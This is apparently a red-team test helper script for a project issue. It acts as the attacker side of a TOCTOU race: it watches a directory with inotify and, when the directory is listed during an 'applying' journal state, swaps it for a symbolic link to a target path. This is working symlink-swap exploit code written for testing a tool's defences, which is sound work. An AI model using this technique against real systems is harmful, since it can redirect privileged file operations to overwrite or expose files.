#!/usr/bin/env python3
# Red-team helper (issue #14): the "concurrent process" of a TOCTOU attack on a --root tree.
# Watches FOLDER with inotify; when FOLDER itself is opened (a directory listing) while the run's
# journal state says TRIGGER (e.g. "applying"), it swaps FOLDER for a symbolic link to TARGET
# (the real folder is moved to FOLDER.moved) and exits. Prints "swapped" or "timeout".
#   redteam-swap.py FOLDER TARGET JOURNAL_GLOB TRIGGER TIMEOUT_S
import ctypes, glob, os, select, struct, sys, time

folder, target, jglob, trigger, timeout = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5])
libc = ctypes.CDLL(None, use_errno=True)
IN_OPEN, IN_ISDIR = 0x20, 0x40000000
fd = libc.inotify_init1(0)
if fd < 0 or libc.inotify_add_watch(fd, folder.encode(), IN_OPEN) < 0:
    print('inotify failed', ctypes.get_errno(), flush=True)
    sys.exit(2)
print('watching', flush=True)


def triggered():
    for f in glob.glob(jglob):
        try:
            with open(f, 'rb') as h:
                if trigger.encode() in h.read():
                    return True
        except OSError:
            pass
    return False


end = time.time() + timeout
while time.time() < end:
    r, _, _ = select.select([fd], [], [], 0.5)
    if not r:
        continue
    buf = os.read(fd, 65536)
    i = 0
    selfopen = False
    while i < len(buf):
        wd, mask, cookie, ln = struct.unpack_from('iIII', buf, i)
        if mask & IN_OPEN and mask & IN_ISDIR and ln == 0:
            selfopen = True
        i += 16 + ln
    if selfopen and triggered():
        os.rename(folder, folder + '.moved')
        os.symlink(target, folder)
        print('swapped', flush=True)
        sys.exit(0)
print('timeout', flush=True)
